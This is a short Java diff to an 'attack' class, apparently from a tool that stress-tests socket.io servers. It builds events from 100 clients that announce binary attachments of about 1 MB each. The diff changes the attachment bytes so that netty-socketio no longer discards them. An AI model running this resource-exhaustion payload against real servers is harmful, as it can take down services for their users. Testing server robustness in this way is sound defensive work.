@@ -3,6 +3,7 @@ package dev.carillon.attacks.kinds;
 import dev.carillon.attacks.raw.Frames;
 import dev.carillon.attacks.raw.RawWebSocket;
 import java.io.IOException;
+import java.util.Arrays;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 
@@ -10,7 +11,7 @@ import java.util.stream.IntStream;
 final class MissingAttachments implements Attack {
     private static final int CLIENTS = 100;
     private static final int ANNOUNCED = 10;
-    private static final byte[] ATTACHMENT = Frames.binary(new byte[999_000]);
+    private static final byte[] ATTACHMENT = Frames.binary(attachment());
     private static final String EVENT = IntStream.range(0, ANNOUNCED)
             .mapToObj(number -> "{\"_placeholder\":true,\"num\":" + number + "}")
             .collect(Collectors.joining(",", "45" + ANNOUNCED + "-[\"echo\",", "]"));
@@ -29,6 +30,13 @@ final class MissingAttachments implements Attack {
 
     static MissingAttachments beforeConnect() {
         return new MissingAttachments("attachments-before-connect", false);
+    }
+
+    /** Not of zeros: netty-socketio takes a leading zero for a length of an earlier protocol, and drops the attachment. */
+    private static byte[] attachment() {
+        byte[] bytes = new byte[999_000];
+        Arrays.fill(bytes, (byte) 'a');
+        return bytes;
     }
 
     @Override
